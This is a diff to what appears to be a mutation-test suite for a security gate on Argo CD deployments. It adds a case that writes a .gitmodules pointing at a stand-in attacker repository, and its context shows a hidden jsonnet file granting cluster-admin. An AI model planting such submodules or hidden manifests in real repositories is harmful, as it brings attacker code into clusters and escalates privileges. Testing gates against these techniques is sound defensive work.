@@ -96,6 +96,12 @@ export const argocdRepoServerMutations: Mutation[] = [
   },
   {
     check: 'argocd-applied-files',
+    why: "a .gitmodules that puts another repository at apps/media/extras: Argo CD's checkout fetches it (git submodule update), and the root app applies its application.yaml, which the gate never reads",
+    mutate: (c) => c.write('.gitmodules', '[submodule "extras"]\n\tpath = apps/media/extras\n\turl = https://github.com/attacker/extras.git\n'),
+    at: () => ({ file: '.gitmodules', line: 2 }),
+  },
+  {
+    check: 'argocd-applied-files',
     why: "a hidden .jsonnet file in the backups app that binds 'cluster-' + 'admin': a directory source evaluates every *.jsonnet, dot-named or not",
     mutate: (c) =>
       c.write(
